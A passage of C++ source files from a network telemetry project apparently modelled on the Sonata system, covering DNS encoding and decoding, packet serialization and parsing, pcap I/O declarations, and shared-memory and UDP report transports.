// opaque padding). Returns the encoded payload bytes.
[[nodiscard]] std::vector<std::byte> dns_encode(const DnsMessage& msg);

// Parse DNS wire format. Returns nullopt on malformed input. Answer RRs of
// type A contribute to answer_addrs; other RR bytes count into
// extra_answer_bytes.
[[nodiscard]] std::optional<DnsMessage> dns_decode(std::span<const std::byte> data);

}  // namespace sonata::net
