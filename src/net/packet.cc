#include "net/packet.h"

#include <utility>

namespace sonata::net {

namespace {
constexpr std::uint16_t l4_header_len(IpProto proto) noexcept {
  switch (proto) {
    case IpProto::kTcp: return kTcpMinHeaderLen;
    case IpProto::kUdp: return kUdpHeaderLen;
    case IpProto::kIcmp: return kIcmpHeaderLen;
  }
  return 0;
}
}  // namespace

Packet Packet::tcp(util::Nanos ts, std::uint32_t sip, std::uint32_t dip, std::uint16_t sport,
                   std::uint16_t dport, std::uint8_t flags, std::uint16_t len) {
  Packet p;
  p.ts = ts;
  p.src_ip = sip;
  p.dst_ip = dip;
  p.src_port = sport;
  p.dst_port = dport;
  p.proto = static_cast<std::uint8_t>(IpProto::kTcp);
  p.tcp_flags = flags;
  p.total_len = len;
  return p;
}

Packet Packet::udp(util::Nanos ts, std::uint32_t sip, std::uint32_t dip, std::uint16_t sport,
                   std::uint16_t dport, std::uint16_t len) {
  Packet p;
  p.ts = ts;
  p.src_ip = sip;
  p.dst_ip = dip;
  p.src_port = sport;
  p.dst_port = dport;
  p.proto = static_cast<std::uint8_t>(IpProto::kUdp);
  p.total_len = len;
  return p;
}

Packet& Packet::with_payload(std::string data) {
  const auto hdr = static_cast<std::uint16_t>(kIpv4MinHeaderLen +
                                              l4_header_len(static_cast<IpProto>(proto)));
  total_len = static_cast<std::uint16_t>(hdr + data.size());
  payload = std::make_shared<const std::string>(std::move(data));
  return *this;
}

Packet& Packet::with_dns(DnsMessage msg) {
  const auto bytes = dns_encode(msg);
  std::string data(reinterpret_cast<const char*>(bytes.data()), bytes.size());
  with_payload(std::move(data));
  dns = std::make_shared<const DnsMessage>(std::move(msg));
  return *this;
}

}  // namespace sonata::net
