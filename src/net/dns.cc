#include "net/dns.h"

#include <algorithm>

namespace sonata::net {

namespace {

void put_u16(std::vector<std::byte>& out, std::uint16_t v) {
  out.push_back(static_cast<std::byte>(v >> 8));
  out.push_back(static_cast<std::byte>(v & 0xff));
}

void put_u32(std::vector<std::byte>& out, std::uint32_t v) {
  put_u16(out, static_cast<std::uint16_t>(v >> 16));
  put_u16(out, static_cast<std::uint16_t>(v & 0xffff));
}

class Reader {
 public:
  explicit Reader(std::span<const std::byte> data) : data_(data) {}

  [[nodiscard]] bool ok() const noexcept { return ok_; }
  [[nodiscard]] std::size_t pos() const noexcept { return pos_; }

  std::uint8_t u8() noexcept {
    if (pos_ + 1 > data_.size()) { ok_ = false; return 0; }
    return static_cast<std::uint8_t>(data_[pos_++]);
  }
  std::uint16_t u16() noexcept {
    const auto hi = u8();
    const auto lo = u8();
    return static_cast<std::uint16_t>((hi << 8) | lo);
  }
  std::uint32_t u32() noexcept {
    const auto hi = u16();
    const auto lo = u16();
    return (static_cast<std::uint32_t>(hi) << 16) | lo;
  }
  void skip(std::size_t n) noexcept {
    if (pos_ + n > data_.size()) { ok_ = false; pos_ = data_.size(); return; }
    pos_ += n;
  }

 private:
  std::span<const std::byte> data_;
  std::size_t pos_ = 0;
  bool ok_ = true;
};

// Encode a domain name as length-prefixed labels. No compression pointers.
void encode_name(std::vector<std::byte>& out, std::string_view name) {
  std::size_t start = 0;
  while (start < name.size()) {
    std::size_t dot = name.find('.', start);
    if (dot == std::string_view::npos) dot = name.size();
    const std::size_t len = std::min<std::size_t>(dot - start, 63);
    out.push_back(static_cast<std::byte>(len));
    for (std::size_t i = 0; i < len; ++i) out.push_back(static_cast<std::byte>(name[start + i]));
    start = dot + 1;
  }
  out.push_back(std::byte{0});
}

// Decode a (non-compressed) domain name; compression pointers terminate the
// name (we never emit them, but tolerate them on input).
bool decode_name(Reader& r, std::string& out) {
  out.clear();
  for (int guard = 0; guard < 128; ++guard) {
    const std::uint8_t len = r.u8();
    if (!r.ok()) return false;
    if (len == 0) return true;
    if ((len & 0xc0) == 0xc0) {  // compression pointer: consume offset byte, stop
      r.u8();
      return r.ok();
    }
    if (len > 63) return false;
    if (!out.empty()) out.push_back('.');
    for (std::uint8_t i = 0; i < len; ++i) {
      out.push_back(static_cast<char>(r.u8()));
      if (!r.ok()) return false;
    }
  }
  return false;
}

}  // namespace

std::size_t dns_label_count(std::string_view name) noexcept {
  if (name.empty() || name == ".") return 0;
  return static_cast<std::size_t>(std::count(name.begin(), name.end(), '.')) + 1;
}

std::string dns_name_prefix(std::string_view name, std::size_t levels) {
  if (levels == 0) return ".";
  const std::size_t total = dns_label_count(name);
  if (levels >= total) return std::string(name);
  // Keep the last `levels` labels: skip (total - levels) leading labels.
  std::size_t skip = total - levels;
  std::size_t pos = 0;
  while (skip > 0) {
    pos = name.find('.', pos) + 1;
    --skip;
  }
  return std::string(name.substr(pos));
}

std::vector<std::byte> dns_encode(const DnsMessage& msg) {
  std::vector<std::byte> out;
  out.reserve(64 + msg.qname.size() + msg.answer_addrs.size() * 16 + msg.extra_answer_bytes);
  put_u16(out, msg.id);
  std::uint16_t flags = 0;
  if (msg.is_response) flags |= 0x8000;
  if (msg.recursion_desired) flags |= 0x0100;
  put_u16(out, flags);
  put_u16(out, 1);  // QDCOUNT
  const auto ancount =
      static_cast<std::uint16_t>(msg.answer_addrs.size() + (msg.extra_answer_bytes > 0 ? 1 : 0));
  put_u16(out, msg.is_response ? std::max(msg.answer_count, ancount) : 0);
  put_u16(out, 0);  // NSCOUNT
  put_u16(out, 0);  // ARCOUNT
  encode_name(out, msg.qname);
  put_u16(out, msg.qtype);
  put_u16(out, msg.qclass);
  if (msg.is_response) {
    for (std::uint32_t addr : msg.answer_addrs) {
      encode_name(out, msg.qname);
      put_u16(out, 1);  // TYPE A
      put_u16(out, 1);  // CLASS IN
      put_u32(out, 300);
      put_u16(out, 4);  // RDLENGTH
      put_u32(out, addr);
    }
    if (msg.extra_answer_bytes > 0) {
      encode_name(out, msg.qname);
      put_u16(out, 16);  // TYPE TXT (opaque padding record)
      put_u16(out, 1);
      put_u32(out, 300);
      put_u16(out, msg.extra_answer_bytes);
      out.insert(out.end(), msg.extra_answer_bytes, std::byte{0x41});
    }
  }
  return out;
}

std::optional<DnsMessage> dns_decode(std::span<const std::byte> data) {
  Reader r(data);
  DnsMessage msg;
  msg.id = r.u16();
  const std::uint16_t flags = r.u16();
  msg.is_response = (flags & 0x8000) != 0;
  msg.recursion_desired = (flags & 0x0100) != 0;
  const std::uint16_t qdcount = r.u16();
  const std::uint16_t ancount = r.u16();
  r.u16();  // NSCOUNT
  r.u16();  // ARCOUNT
  if (!r.ok() || qdcount != 1) return std::nullopt;
  if (!decode_name(r, msg.qname)) return std::nullopt;
  msg.qtype = r.u16();
  msg.qclass = r.u16();
  msg.answer_count = ancount;
  for (std::uint16_t i = 0; i < ancount && r.ok(); ++i) {
    std::string name;
    if (!decode_name(r, name)) return std::nullopt;
    const std::uint16_t type = r.u16();
    r.u16();  // class
    r.u32();  // ttl
    const std::uint16_t rdlen = r.u16();
    if (!r.ok()) return std::nullopt;
    if (type == 1 && rdlen == 4) {
      msg.answer_addrs.push_back(r.u32());
    } else {
      msg.extra_answer_bytes = static_cast<std::uint16_t>(msg.extra_answer_bytes + rdlen);
      r.skip(rdlen);
    }
  }
  if (!r.ok()) return std::nullopt;
  return msg;
}

}  // namespace sonata::net
