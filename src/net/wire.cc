#include "net/wire.h"

#include <cstring>

namespace sonata::net {

namespace {

void put_u16(std::vector<std::byte>& out, std::uint16_t v) {
  out.push_back(static_cast<std::byte>(v >> 8));
  out.push_back(static_cast<std::byte>(v & 0xff));
}

void put_u32(std::vector<std::byte>& out, std::uint32_t v) {
  put_u16(out, static_cast<std::uint16_t>(v >> 16));
  put_u16(out, static_cast<std::uint16_t>(v & 0xffff));
}

[[nodiscard]] std::uint16_t get_u16(std::span<const std::byte> d, std::size_t off) noexcept {
  return static_cast<std::uint16_t>((static_cast<std::uint16_t>(d[off]) << 8) |
                                    static_cast<std::uint16_t>(d[off + 1]));
}

[[nodiscard]] std::uint32_t get_u32(std::span<const std::byte> d, std::size_t off) noexcept {
  return (static_cast<std::uint32_t>(get_u16(d, off)) << 16) | get_u16(d, off + 2);
}

}  // namespace

std::uint16_t internet_checksum(std::span<const std::byte> data) noexcept {
  std::uint32_t sum = 0;
  std::size_t i = 0;
  for (; i + 1 < data.size(); i += 2) {
    sum += (static_cast<std::uint32_t>(data[i]) << 8) | static_cast<std::uint32_t>(data[i + 1]);
  }
  if (i < data.size()) sum += static_cast<std::uint32_t>(data[i]) << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

std::vector<std::byte> serialize(const Packet& p) {
  std::vector<std::byte> out;
  std::size_t header_len = kIpv4MinHeaderLen;
  switch (static_cast<IpProto>(p.proto)) {
    case IpProto::kTcp: header_len += kTcpMinHeaderLen; break;
    case IpProto::kUdp: header_len += kUdpHeaderLen; break;
    case IpProto::kIcmp: header_len += kIcmpHeaderLen; break;
  }
  // The in-memory model may declare a total_len larger than the attached
  // payload (synthetic traffic carries sizes, not bodies). Pad the wire
  // representation so lengths survive serialization round-trips.
  const std::size_t attached = p.payload ? p.payload->size() : 0;
  const std::size_t declared =
      p.total_len > header_len ? p.total_len - header_len : 0;
  const std::size_t payload_size = std::max(attached, declared);
  out.reserve(kEthernetHeaderLen + header_len + payload_size);

  // Ethernet: synthetic MACs, IPv4 ethertype.
  static constexpr std::byte kDstMac[6] = {std::byte{2}, std::byte{0}, std::byte{0},
                                           std::byte{0}, std::byte{0}, std::byte{2}};
  static constexpr std::byte kSrcMac[6] = {std::byte{2}, std::byte{0}, std::byte{0},
                                           std::byte{0}, std::byte{0}, std::byte{1}};
  out.insert(out.end(), std::begin(kDstMac), std::end(kDstMac));
  out.insert(out.end(), std::begin(kSrcMac), std::end(kSrcMac));
  put_u16(out, kEtherTypeIpv4);

  // IPv4 header (no options).
  const std::size_t ip_start = out.size();
  std::uint16_t l4_len = 0;
  switch (static_cast<IpProto>(p.proto)) {
    case IpProto::kTcp: l4_len = kTcpMinHeaderLen; break;
    case IpProto::kUdp: l4_len = kUdpHeaderLen; break;
    case IpProto::kIcmp: l4_len = kIcmpHeaderLen; break;
  }
  const auto ip_total =
      static_cast<std::uint16_t>(kIpv4MinHeaderLen + l4_len + payload_size);
  out.push_back(std::byte{0x45});  // version 4, IHL 5
  out.push_back(std::byte{0});     // DSCP/ECN
  put_u16(out, ip_total);
  put_u16(out, 0);       // identification
  put_u16(out, 0x4000);  // flags: DF
  out.push_back(static_cast<std::byte>(p.ttl));
  out.push_back(static_cast<std::byte>(p.proto));
  put_u16(out, 0);  // checksum placeholder
  put_u32(out, p.src_ip);
  put_u32(out, p.dst_ip);
  const std::uint16_t csum = internet_checksum(
      std::span{out.data() + ip_start, kIpv4MinHeaderLen});
  out[ip_start + 10] = static_cast<std::byte>(csum >> 8);
  out[ip_start + 11] = static_cast<std::byte>(csum & 0xff);

  // L4 header.
  switch (static_cast<IpProto>(p.proto)) {
    case IpProto::kTcp: {
      put_u16(out, p.src_port);
      put_u16(out, p.dst_port);
      put_u32(out, p.tcp_seq);
      put_u32(out, 0);                 // ack
      out.push_back(std::byte{0x50});  // data offset 5
      out.push_back(static_cast<std::byte>(p.tcp_flags));
      put_u16(out, 0xffff);  // window
      put_u16(out, 0);       // checksum (not computed; parser ignores)
      put_u16(out, 0);       // urgent
      break;
    }
    case IpProto::kUdp: {
      put_u16(out, p.src_port);
      put_u16(out, p.dst_port);
      put_u16(out, static_cast<std::uint16_t>(kUdpHeaderLen + payload_size));
      put_u16(out, 0);  // checksum optional for IPv4
      break;
    }
    case IpProto::kIcmp: {
      out.push_back(std::byte{8});  // echo request
      out.push_back(std::byte{0});
      put_u16(out, 0);  // checksum
      put_u32(out, 0);  // id/seq
      break;
    }
  }

  if (p.payload) {
    const auto* bytes = reinterpret_cast<const std::byte*>(p.payload->data());
    out.insert(out.end(), bytes, bytes + p.payload->size());
  }
  if (payload_size > attached) {
    out.insert(out.end(), payload_size - attached, std::byte{0});
  }
  return out;
}

std::optional<Packet> parse(std::span<const std::byte> frame, const ParseOptions& opts) {
  if (frame.size() < kEthernetHeaderLen + kIpv4MinHeaderLen) return std::nullopt;
  if (get_u16(frame, 12) != kEtherTypeIpv4) return std::nullopt;

  const std::size_t ip = kEthernetHeaderLen;
  const auto ver_ihl = static_cast<std::uint8_t>(frame[ip]);
  if ((ver_ihl >> 4) != 4) return std::nullopt;
  const std::size_t ihl = static_cast<std::size_t>(ver_ihl & 0x0f) * 4;
  if (ihl < kIpv4MinHeaderLen || frame.size() < ip + ihl) return std::nullopt;

  Packet p;
  p.total_len = get_u16(frame, ip + 2);
  p.ttl = static_cast<std::uint8_t>(frame[ip + 8]);
  p.proto = static_cast<std::uint8_t>(frame[ip + 9]);
  p.src_ip = get_u32(frame, ip + 12);
  p.dst_ip = get_u32(frame, ip + 16);
  if (p.total_len < ihl || frame.size() < ip + p.total_len) return std::nullopt;

  const std::size_t l4 = ip + ihl;
  std::size_t payload_off = l4;
  switch (static_cast<IpProto>(p.proto)) {
    case IpProto::kTcp: {
      if (frame.size() < l4 + kTcpMinHeaderLen) return std::nullopt;
      p.src_port = get_u16(frame, l4);
      p.dst_port = get_u16(frame, l4 + 2);
      p.tcp_seq = get_u32(frame, l4 + 4);
      const std::size_t data_off = (static_cast<std::size_t>(frame[l4 + 12]) >> 4) * 4;
      if (data_off < kTcpMinHeaderLen || frame.size() < l4 + data_off) return std::nullopt;
      p.tcp_flags = static_cast<std::uint8_t>(frame[l4 + 13]) & 0x3f;
      payload_off = l4 + data_off;
      break;
    }
    case IpProto::kUdp: {
      if (frame.size() < l4 + kUdpHeaderLen) return std::nullopt;
      p.src_port = get_u16(frame, l4);
      p.dst_port = get_u16(frame, l4 + 2);
      payload_off = l4 + kUdpHeaderLen;
      break;
    }
    case IpProto::kIcmp: {
      if (frame.size() < l4 + kIcmpHeaderLen) return std::nullopt;
      payload_off = l4 + kIcmpHeaderLen;
      break;
    }
    default:
      payload_off = l4;
      break;
  }

  const std::size_t frame_payload_end = ip + p.total_len;
  if (payload_off < frame_payload_end) {
    const std::size_t n = frame_payload_end - payload_off;
    p.payload = std::make_shared<const std::string>(
        reinterpret_cast<const char*>(frame.data() + payload_off), n);
    if (opts.parse_dns && p.is_udp() &&
        (p.dst_port == ports::kDns || p.src_port == ports::kDns)) {
      if (auto dns = dns_decode(frame.subspan(payload_off, n))) {
        p.dns = std::make_shared<const DnsMessage>(std::move(*dns));
      }
    }
  }
  return p;
}

}  // namespace sonata::net
