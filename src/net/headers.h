// Protocol constants and header field definitions for the packet substrate.
//
// Sonata parses standard protocols on the switch (paper §2.1); this module
// defines the protocols our reconfigurable-parser model understands.
#pragma once

#include <cstdint>

namespace sonata::net {

// IANA protocol numbers we care about.
enum class IpProto : std::uint8_t {
  kIcmp = 1,
  kTcp = 6,
  kUdp = 17,
};

// TCP flag bits (in packet order: FIN lowest).
namespace tcp_flags {
inline constexpr std::uint8_t kFin = 0x01;
inline constexpr std::uint8_t kSyn = 0x02;
inline constexpr std::uint8_t kRst = 0x04;
inline constexpr std::uint8_t kPsh = 0x08;
inline constexpr std::uint8_t kAck = 0x10;
inline constexpr std::uint8_t kUrg = 0x20;
}  // namespace tcp_flags

// Well-known ports used by the telemetry queries.
namespace ports {
inline constexpr std::uint16_t kSsh = 22;
inline constexpr std::uint16_t kTelnet = 23;
inline constexpr std::uint16_t kDns = 53;
inline constexpr std::uint16_t kHttp = 80;
inline constexpr std::uint16_t kHttps = 443;
}  // namespace ports

// DNS query/record types used by the DNS telemetry queries.
namespace dns_types {
inline constexpr std::uint16_t kA = 1;
inline constexpr std::uint16_t kNs = 2;
inline constexpr std::uint16_t kCname = 5;
inline constexpr std::uint16_t kTxt = 16;
inline constexpr std::uint16_t kAaaa = 28;
inline constexpr std::uint16_t kAny = 255;
}  // namespace dns_types

inline constexpr std::size_t kEthernetHeaderLen = 14;
inline constexpr std::size_t kIpv4MinHeaderLen = 20;
inline constexpr std::size_t kTcpMinHeaderLen = 20;
inline constexpr std::size_t kUdpHeaderLen = 8;
inline constexpr std::size_t kIcmpHeaderLen = 8;
inline constexpr std::uint16_t kEtherTypeIpv4 = 0x0800;

}  // namespace sonata::net
