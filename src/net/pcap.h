// Classic libpcap file I/O (magic 0xa1b2c3d4, microsecond timestamps).
//
// The paper's evaluation replays CAIDA traces; our benchmarks generate
// synthetic traces, but this module lets a user substitute real captures
// (and lets tests round-trip generated traffic through the on-disk format).
#pragma once

#include <cstdio>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "net/packet.h"
#include "net/wire.h"

namespace sonata::net {

class PcapWriter {
 public:
  // Opens (truncates) `path` and writes the global header. Throws
  // std::runtime_error on failure.
  explicit PcapWriter(const std::string& path);

  // Serializes the packet to wire format and appends one record.
  void write(const Packet& p);

  [[nodiscard]] std::size_t packets_written() const noexcept { return count_; }

 private:
  struct FileCloser {
    void operator()(std::FILE* f) const noexcept { if (f) std::fclose(f); }
  };
  std::unique_ptr<std::FILE, FileCloser> file_;
  std::size_t count_ = 0;
};

class PcapReader {
 public:
  // Opens `path` and validates the global header. Throws std::runtime_error
  // on open failure or bad magic.
  explicit PcapReader(const std::string& path);

  // Reads the next packet; nullopt at end of file. Malformed records throw.
  [[nodiscard]] std::optional<Packet> next();

  // Convenience: read everything.
  [[nodiscard]] std::vector<Packet> read_all();

 private:
  struct FileCloser {
    void operator()(std::FILE* f) const noexcept { if (f) std::fclose(f); }
  };
  std::unique_ptr<std::FILE, FileCloser> file_;
  bool swapped_ = false;  // file written with opposite endianness
};

}  // namespace sonata::net
