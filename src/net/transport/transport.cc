#include "net/transport/transport.h"

#include "net/transport/shm_ring.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <thread>
#include <utility>

namespace sonata::net::transport {

namespace {

using Clock = std::chrono::steady_clock;

// Blocking sends/ring writes give up after this long: a dead peer must
// fail the run with an error, not hang the window barrier forever.
constexpr int kSendTimeoutMs = 30'000;

constexpr std::size_t kShmUpRingBytes = 8u << 20;   // node -> collector
constexpr std::size_t kShmDownRingBytes = 1u << 20; // collector -> node
constexpr std::size_t kIoChunk = 64 * 1024;         // per-read scratch

std::string sock_err(const char* what) {
  return std::string("transport: ") + what + ": " + std::strerror(errno);
}

bool resolve_ipv4(const std::string& host, std::uint16_t port, sockaddr_in& addr) {
  addr = {};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  const std::string resolved = (host == "localhost" || host.empty()) ? "127.0.0.1" : host;
  return ::inet_pton(AF_INET, resolved.c_str(), &addr.sin_addr) == 1;
}

bool send_all(int fd, const std::byte* data, std::size_t size) {
  std::size_t off = 0;
  while (off < size) {
    const ssize_t n = ::send(fd, data + off, size - off, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    if (n == 0) return false;
    off += static_cast<std::size_t>(n);
  }
  return true;
}

bool wait_readable(int fd, int timeout_ms) {
  pollfd pfd{fd, POLLIN, 0};
  const int rc = ::poll(&pfd, 1, timeout_ms);
  return rc > 0 && (pfd.revents & (POLLIN | POLLHUP)) != 0;
}

std::string shm_ring_path(const std::string& prefix, std::uint16_t node, bool up) {
  return prefix + ".n" + std::to_string(node) + (up ? ".up" : ".down");
}

// Shared collector-side frame routing: counters, reassembly for data
// frames, window-end gap finalization.
class CollectorBase : public CollectorEndpoint {
 public:
  [[nodiscard]] const Reassembly& reassembly() const noexcept override { return reassembly_; }
  [[nodiscard]] const TransportCounters& counters() const noexcept override {
    return counters_;
  }

 protected:
  void ingest(Frame f, std::vector<Frame>& out) {
    ++counters_.rx_frames;
    counters_.rx_bytes += kFrameHeaderBytes + f.payload.size();
    if (is_data_frame(f.type)) {
      reassembly_.push(std::move(f), out);
    } else if (f.type == FrameType::kWindowEnd) {
      // The barrier's seq field is the sender's next data sequence:
      // finalize this source's gaps, deliver what was buffered, then the
      // barrier itself.
      reassembly_.flush_to(f.source, f.seq, out);
      out.push_back(std::move(f));
    } else {
      out.push_back(std::move(f));
    }
  }

  Reassembly reassembly_;
  TransportCounters counters_;
};

// ---------------------------------------------------------------- shm --

class ShmSwitchTransport final : public ReportTransport {
 public:
  ShmSwitchTransport(std::string prefix, std::uint16_t node)
      : prefix_(std::move(prefix)), node_(node) {}

  std::string connect(int timeout_ms) override {
    auto up = ShmRing::open(shm_ring_path(prefix_, node_, true), timeout_ms);
    if (!up) return up.error();
    auto down = ShmRing::open(shm_ring_path(prefix_, node_, false), timeout_ms);
    if (!down) return down.error();
    up_ = std::move(*up);
    down_ = std::move(*down);
    return {};
  }

  bool send(const Frame& f) override {
    scratch_.clear();
    encode_stream(f, scratch_);
    const auto deadline = Clock::now() + std::chrono::milliseconds(kSendTimeoutMs);
    while (!up_.write(scratch_)) {
      if (Clock::now() >= deadline) return false;
      std::this_thread::yield();
    }
    ++counters_.tx_frames;
    counters_.tx_bytes += scratch_.size();
    return true;
  }

  bool poll(Frame& out, int timeout_ms) override {
    const auto deadline = Clock::now() + std::chrono::milliseconds(timeout_ms);
    for (;;) {
      if (auto f = parser_.next()) {
        ++counters_.rx_frames;
        counters_.rx_bytes += kFrameHeaderBytes + f->payload.size();
        out = std::move(*f);
        return true;
      }
      if (parser_.error()) return false;
      if (down_.readable() > 0) {
        std::byte buf[kIoChunk];
        const std::size_t n = down_.read(buf, sizeof(buf));
        parser_.feed({buf, n});
        continue;
      }
      if (Clock::now() >= deadline) return false;
      std::this_thread::sleep_for(std::chrono::microseconds(200));
    }
  }

  [[nodiscard]] const TransportCounters& counters() const noexcept override {
    return counters_;
  }
  [[nodiscard]] TransportKind kind() const noexcept override { return TransportKind::kShm; }

 private:
  std::string prefix_;
  std::uint16_t node_;
  ShmRing up_, down_;
  StreamParser parser_;
  std::vector<std::byte> scratch_;
  TransportCounters counters_;
};

class ShmCollectorEndpoint final : public CollectorBase {
 public:
  ShmCollectorEndpoint(std::string prefix, std::uint16_t nodes)
      : prefix_(std::move(prefix)), nodes_(nodes) {}

  std::string listen() override {
    for (std::uint16_t n = 0; n < nodes_; ++n) {
      auto up = ShmRing::create(shm_ring_path(prefix_, n, true), kShmUpRingBytes);
      if (!up) return up.error();
      auto down = ShmRing::create(shm_ring_path(prefix_, n, false), kShmDownRingBytes);
      if (!down) return down.error();
      Peer peer;
      peer.up = std::move(*up);
      peer.down = std::move(*down);
      peers_.push_back(std::move(peer));
    }
    return {};
  }

  bool poll(std::vector<Frame>& out, int timeout_ms) override {
    const std::size_t before = out.size();
    const auto deadline = Clock::now() + std::chrono::milliseconds(timeout_ms);
    std::byte buf[kIoChunk];
    for (;;) {
      bool any_bytes = false;
      for (Peer& p : peers_) {
        while (p.up.readable() > 0) {
          const std::size_t n = p.up.read(buf, sizeof(buf));
          p.parser.feed({buf, n});
          any_bytes = true;
        }
        while (auto f = p.parser.next()) ingest(std::move(*f), out);
        if (p.parser.error()) return false;
      }
      if (out.size() > before) return true;
      if (Clock::now() >= deadline) return true;  // timeout, no frames: not fatal
      if (!any_bytes) std::this_thread::sleep_for(std::chrono::microseconds(200));
    }
  }

  bool send_to(std::uint16_t node, const Frame& f) override {
    if (node >= peers_.size()) return false;
    scratch_.clear();
    encode_stream(f, scratch_);
    const auto deadline = Clock::now() + std::chrono::milliseconds(kSendTimeoutMs);
    while (!peers_[node].down.write(scratch_)) {
      if (Clock::now() >= deadline) return false;
      std::this_thread::yield();
    }
    ++counters_.tx_frames;
    counters_.tx_bytes += scratch_.size();
    return true;
  }

  [[nodiscard]] TransportKind kind() const noexcept override { return TransportKind::kShm; }

 private:
  struct Peer {
    ShmRing up, down;
    StreamParser parser;
  };
  std::string prefix_;
  std::uint16_t nodes_;
  std::vector<Peer> peers_;
  std::vector<std::byte> scratch_;
};

// ---------------------------------------------------------------- udp --

class UdpSwitchTransport final : public ReportTransport {
 public:
  UdpSwitchTransport(std::string host, std::uint16_t port, std::uint16_t node)
      : host_(std::move(host)), port_(port) {
    (void)node;  // the node id travels in every frame header
  }

  ~UdpSwitchTransport() override {
    if (fd_ >= 0) ::close(fd_);
  }

  std::string connect(int timeout_ms) override {
    (void)timeout_ms;  // datagrams: nothing to wait for (the hello
                       // handshake provides liveness)
    sockaddr_in addr{};
    if (!resolve_ipv4(host_, port_, addr)) {
      return "transport: cannot parse host '" + host_ + "' (use a dotted IPv4 address)";
    }
    fd_ = ::socket(AF_INET, SOCK_DGRAM, 0);
    if (fd_ < 0) return sock_err("socket");
    const int buf = 4 << 20;
    ::setsockopt(fd_, SOL_SOCKET, SO_RCVBUF, &buf, sizeof(buf));
    ::setsockopt(fd_, SOL_SOCKET, SO_SNDBUF, &buf, sizeof(buf));
    if (::connect(fd_, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) < 0) {
      return sock_err("connect");
    }
    return {};
  }

  bool send(const Frame& f) override {
    scratch_.clear();
    encode_datagram(f, scratch_);
    for (;;) {
      const ssize_t n = ::send(fd_, scratch_.data(), scratch_.size(), MSG_NOSIGNAL);
      if (n >= 0) break;
      if (errno == EINTR) continue;
      // A connected UDP socket surfaces ICMP unreachable as ECONNREFUSED
      // when the collector is not up yet; the datagram is simply lost and
      // the hello/window-end retransmission recovers. Only a broken
      // socket is fatal.
      if (errno == ECONNREFUSED || errno == EAGAIN || errno == ENOBUFS) break;
      return false;
    }
    ++counters_.tx_frames;
    counters_.tx_bytes += scratch_.size();
    return true;
  }

  bool poll(Frame& out, int timeout_ms) override {
    const auto deadline = Clock::now() + std::chrono::milliseconds(timeout_ms);
    std::byte buf[kIoChunk];
    for (;;) {
      const auto now = Clock::now();
      const int remain = now >= deadline
                             ? 0
                             : static_cast<int>(std::chrono::duration_cast<std::chrono::milliseconds>(
                                                    deadline - now)
                                                    .count());
      if (!wait_readable(fd_, remain)) return false;
      const ssize_t n = ::recv(fd_, buf, sizeof(buf), 0);
      if (n < 0) {
        if (errno == EINTR || errno == ECONNREFUSED || errno == EAGAIN) continue;
        return false;
      }
      if (auto f = decode_datagram({buf, static_cast<std::size_t>(n)})) {
        ++counters_.rx_frames;
        counters_.rx_bytes += static_cast<std::uint64_t>(n);
        out = std::move(*f);
        return true;
      }
      ++counters_.decode_errors;
    }
  }

  [[nodiscard]] const TransportCounters& counters() const noexcept override {
    return counters_;
  }
  [[nodiscard]] TransportKind kind() const noexcept override { return TransportKind::kUdp; }

 private:
  std::string host_;
  std::uint16_t port_;
  int fd_ = -1;
  std::vector<std::byte> scratch_;
  TransportCounters counters_;
};

class UdpCollectorEndpoint final : public CollectorBase {
 public:
  static constexpr unsigned kBatch = 32;  // datagrams per recvmmsg call

  UdpCollectorEndpoint(std::string host, std::uint16_t port)
      : host_(std::move(host)), port_(port) {}

  ~UdpCollectorEndpoint() override {
    if (fd_ >= 0) ::close(fd_);
  }

  std::string listen() override {
    sockaddr_in addr{};
    if (!resolve_ipv4(host_, port_, addr)) {
      return "transport: cannot parse host '" + host_ + "' (use a dotted IPv4 address)";
    }
    fd_ = ::socket(AF_INET, SOCK_DGRAM, 0);
    if (fd_ < 0) return sock_err("socket");
    const int one = 1;
    ::setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    // A deep receive buffer is what makes loopback UDP effectively
    // lossless between the window barriers; real loss is injected at the
    // sender, not manufactured by a 208 KiB default rcvbuf.
    const int buf = 8 << 20;
    ::setsockopt(fd_, SOL_SOCKET, SO_RCVBUF, &buf, sizeof(buf));
    if (::bind(fd_, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) < 0) {
      return sock_err("bind");
    }
    bufs_.assign(kBatch, std::vector<std::byte>(kIoChunk));
    return {};
  }

  bool poll(std::vector<Frame>& out, int timeout_ms) override {
    const std::size_t before = out.size();
    const auto deadline = Clock::now() + std::chrono::milliseconds(timeout_ms);
    for (;;) {
      const auto now = Clock::now();
      const int remain = now >= deadline
                             ? 0
                             : static_cast<int>(std::chrono::duration_cast<std::chrono::milliseconds>(
                                                    deadline - now)
                                                    .count());
      if (!wait_readable(fd_, remain)) return true;  // timeout: empty poll
      // Batched receive: drain the socket with as few syscalls as the
      // batch size allows, then route everything at once.
      mmsghdr msgs[kBatch];
      iovec iovs[kBatch];
      sockaddr_in addrs[kBatch];
      for (;;) {
        std::memset(msgs, 0, sizeof(msgs));
        for (unsigned i = 0; i < kBatch; ++i) {
          iovs[i] = {bufs_[i].data(), bufs_[i].size()};
          msgs[i].msg_hdr.msg_iov = &iovs[i];
          msgs[i].msg_hdr.msg_iovlen = 1;
          msgs[i].msg_hdr.msg_name = &addrs[i];
          msgs[i].msg_hdr.msg_namelen = sizeof(addrs[i]);
        }
        const int n = ::recvmmsg(fd_, msgs, kBatch, MSG_DONTWAIT, nullptr);
        if (n < 0) {
          if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) break;
          return false;
        }
        for (int i = 0; i < n; ++i) {
          const std::span<const std::byte> dgram{bufs_[static_cast<unsigned>(i)].data(),
                                                 msgs[i].msg_len};
          if (auto f = decode_datagram(dgram)) {
            // Any frame refreshes the node's return address; the hello
            // handshake guarantees one arrives before feedback is due.
            if (f->source < kMaxNodes) {
              return_addr_[f->source] = addrs[i];
              have_addr_[f->source] = true;
            }
            ingest(std::move(*f), out);
          } else {
            ++counters_.decode_errors;
          }
        }
